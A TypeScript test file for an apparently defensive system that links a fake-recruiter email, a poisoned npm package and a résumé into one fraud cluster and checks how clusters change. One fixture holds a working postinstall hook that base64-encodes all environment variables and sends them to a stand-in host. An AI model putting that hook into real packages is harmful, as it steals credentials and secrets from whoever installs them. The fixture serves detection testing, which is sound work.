import assert from 'node:assert/strict'
import { after, before, test } from 'node:test'
import fc from 'fast-check'
import { writePackage } from '../../../bench/packages/archive.ts'
import { rows } from '../house.ts'
import { accept } from '../pipeline/accept.ts'
import { groupsOf } from './relink.ts'
import { testedHouse, type TestedHouse } from '../testing/house.ts'

let tested: TestedHouse
before(async () => {
  tested = await testedHouse()
})
after(() => tested.close())

const text = (value: string): Uint8Array => new TextEncoder().encode(value)
const take = (name: string, bytes: Uint8Array) => accept(tested.house, tested.org, { name, bytes, door: null, subject: null, source: 'test' })
const clusterOf = (subject: string) => rows(tested.house).clusters.of(tested.org, subject)

const lure = `From: Talent Desk <desk@hire-exampel.example>
To: dev@example.com
Subject: Take-home task for the protocol role
Date: Mon, 16 Nov 2026 09:00:00 +0000
Content-Type: text/plain

Dear developer, here is the take-home task: https://github.com/exampel-labs/chain-task
Please run it on your own machine today and tell us what you find, we pay 8,000 USD a month.
`
const task = { 'package.json': JSON.stringify({ name: 'chain-task-utils', version: '1.0.4', author: 'M <mira.exampel@mail.example>', repository: 'github:exampel-labs/chain-task', scripts: { postinstall: 'node setup.js' } }), 'setup.js': "require('https').get('https://drop.exampel-cdn.example/k?' + Buffer.from(JSON.stringify(process.env)).toString('base64'))\n" }
const resume = 'Lars Sample\nmira.exampel@mail.example\nExperience\nEngineer, Basalt Labs   2019 – 2021\n- Built one thing for a ledger\n'
const honest = 'Nora Honest\nnora.honest@example.com\nExperience\nEngineer, Basalt Labs   2018 – 2022\n- Built another thing for a shop\n'

test('recruiter, take-home task, poisoned package and résumé are one crew, whatever came first; the honest stand outside', async () => {
  const person = await take('lars.txt', text(resume))
  const other = await take('nora.txt', text(honest))
  await tested.drain()
  assert.equal(await clusterOf(person.subject), null)
  const message = await take('lure.eml', text(lure))
  await tested.drain()
  const poisoned = await take('chain-task-utils-1.0.4.tgz', writePackage(Object.entries(task).map(([path, content]) => [path, text(content)] as const)))
  await tested.drain()

  const crew = await clusterOf(poisoned.subject)
  assert.ok(crew !== null, 'the package stands in a cluster')
  assert.equal(await clusterOf(message.subject), crew, 'by the repository')
  assert.equal(await clusterOf(person.subject), crew, 'by the author’s e-mail')
  assert.equal(await clusterOf(other.subject), null)

  const [file] = await rows(tested.house).cases.ofSubject(tested.org, person.subject)
  const ledger = await rows(tested.house).cases.ledger(tested.org, file?.id as string)
  const link = ledger?.groups.find(({ group }) => group === 'link')
  assert.ok(link?.findings.some(({ rule, outcome }) => rule === 'apply/crew-stopped-elsewhere' && outcome === 'present'), 'the résumé’s case says so')
  assert.equal(file?.posture, 'look', 'one shared thing is looked at; it is no challenge')
})

test('a tie that a person removed stays removed, also when the record is judged again, and the crew falls apart with its history', async () => {
  const tables = rows(tested.house)
  const members = (await tables.clusters.list(tested.org))[0]
  assert.ok(members)
  const all = await tables.clusters.members(tested.org, members.id)
  const links = (await tables.links.among(tested.org, all)).filter(({ type }) => type === 'email' || type === 'near-contact')
  assert.ok(links.length > 0)
  for (const link of links) await tables.links.remove(tested.org, link, 'ada', 'the package copied an innocent author')
  for (const subject of all) await tested.house.queue.add(null, 'judge', { org: tested.org, subject }, `${tested.org}/${subject}`)
  await tested.drain()
  const person = links[0]?.a.subject === all[0] ? links[0]?.a.subject : links[0]?.b.subject
  assert.ok(person)
  const left = await Promise.all(links.flatMap(({ a, b }) => [a.subject, b.subject]).map(clusterOf))
  assert.ok(left.includes(null), 'the résumé stands alone now')
  const events = await tables.clusters.history(tested.org, members.id)
  assert.deepEqual([events[0]?.what, events.at(-1)?.what], ['opened', 'shrank'])
  for (const subject of all) await tested.house.queue.add(null, 'judge', { org: tested.org, subject }, `${tested.org}/${subject}`)
  await tested.drain()
  assert.equal((await tables.links.among(tested.org, all)).some(({ type }) => type === 'email'), false)
})

test('whatever came in which order: clusters kept step by step are those computed at once', { timeout: 120_000 }, async () => {
  await fc.assert(
    fc.asyncProperty(fc.array(fc.tuple(fc.integer({ min: 0, max: 4 }), fc.integer({ min: 0, max: 4 })), { minLength: 3, maxLength: 6 }), fc.nat(1e6), async (people, salt) => {
      const own = await testedHouse()
      try {
        for (const [at, [mail, phone]] of people.entries()) {
          const bytes = text(`Person ${at} Example\nmailbox.${salt}.${mail}@example.com\n+1 202 555 01${phone}${phone}\nExperience\nEngineer, Basalt Labs   2019 – 2021\n- Built thing ${at}\n`)
          await accept(own.house, own.org, { name: `${at}.txt`, bytes, door: 'apply', subject: null, source: 'test' })
          await own.drain()
        }
        const tables = rows(own.house)
        const ids = (await own.house.store.db.selectFrom('subjects').select('id').where('org_id', '=', own.org).orderBy('id').execute()).map(({ id }) => id)
        const kept = [...(await tables.clusters.around(own.org, ids)).values()].map((members) => [...members].sort())
        const atOnce = groupsOf(ids, await tables.links.among(own.org, ids), await tables.artefacts.population(own.org)).map((members) => members.toSorted())
        assert.deepEqual(kept.toSorted(), atOnce.toSorted())
        const sameMail = Map.groupBy(ids.keys(), (at) => people[at]?.[0])
        for (const group of sameMail.values()) if (group.length > 1) assert.ok(kept.some((members) => group.every((at) => members.includes(ids[at] as string))), 'one mailbox, one cluster')
      } finally {
        await own.close()
      }
    }),
    { numRuns: 4, examples: [[[[4, 0], [4, 0], [4, 0], [0, 0], [4, 0]], 0]] },
  )
})
